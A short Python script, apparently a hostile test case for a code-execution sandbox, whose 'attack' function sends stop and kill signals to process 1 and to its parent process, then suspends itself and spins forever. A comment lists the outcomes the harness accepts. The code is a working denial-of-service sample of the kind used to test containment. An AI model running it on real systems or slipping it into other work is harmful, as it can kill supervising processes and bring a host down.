"""Sends every signal to its parent, to the first process and to all, so that nobody is left to stop it."""
# acceptable: timeout, crash, exception

import os
import signal


def attack():
    for target in (1, os.getppid(), 0, -1):
        for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL, signal.SIGSTOP):
            if target > 0:
                os.kill(target, number)
    os.kill(os.getpid(), signal.SIGSTOP)
    while True:
        pass
